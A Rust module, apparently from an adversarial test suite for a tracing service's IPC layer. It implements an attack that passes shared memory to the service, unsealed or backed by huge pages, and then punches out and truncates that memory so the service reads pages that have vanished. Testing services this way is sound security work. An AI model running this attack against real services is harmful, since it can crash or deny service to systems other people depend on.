//! Memory that a producer brings and takes away again: unsealed, or of huge pages that are punched
//! out of it.

use std::os::fd::{AsFd as _, OwnedFd};

use ferretto_ipc::port::producer;
use ferretto_proto::InitializeConnectionRequest;
use rustix::fs::{FallocateFlags, MemfdFlags, SealFlags, fallocate, fcntl_add_seals, ftruncate};

use crate::common::passing::pass;
use crate::common::{bind_frame, read_frame, send_raw};
use crate::frame::{Attack, Target, call};

pub(crate) const ATTACK: Attack = Attack::by_nobody(run);

const SIZE: u64 = 4 << 20;

fn run(target: &Target) {
    let request = InitializeConnectionRequest {
        producer_name: Some("vanishing".into()),
        producer_provided_shmem: Some(true),
        shared_memory_page_size_hint_bytes: Some(4096),
        ..Default::default()
    };
    let initialize = call(&producer::Request::InitializeConnection(request), false);
    let sealed = SealFlags::SHRINK | SealFlags::GROW | SealFlags::SEAL;
    loop {
        for (flags, seals) in [
            (MemfdFlags::HUGETLB, sealed),
            (MemfdFlags::empty(), SealFlags::empty()),
            (MemfdFlags::empty(), sealed),
        ] {
            let Some(socket) = target.producer_socket() else {
                continue;
            };
            let Some(memory) = memory(flags, seals) else {
                continue;
            };
            assert!(send_raw(&socket, &bind_frame("ProducerPort")));
            if !pass(&socket, &initialize, &[memory.as_fd()]) {
                continue;
            }
            while let Some(reply) = read_frame(&socket) {
                if reply.starts_with(&[0x10, 1, 0x32]) {
                    break;
                }
            }
            // The service reads the rest of it when the connection ends, if not before.
            let hole = FallocateFlags::PUNCH_HOLE | FallocateFlags::KEEP_SIZE;
            let _ = fallocate(&memory, hole, 0, SIZE);
            let _ = ftruncate(&memory, 0);
        }
        if !target.goes_on() {
            return;
        }
    }
}

fn memory(flags: MemfdFlags, seals: SealFlags) -> Option<OwnedFd> {
    let flags = flags | MemfdFlags::CLOEXEC | MemfdFlags::ALLOW_SEALING;
    // Not every kernel has huge pages.
    let fd = rustix::fs::memfd_create("vanishing", flags).ok()?;
    ftruncate(&fd, SIZE).unwrap();
    fcntl_add_seals(&fd, seals).unwrap();
    Some(fd)
}
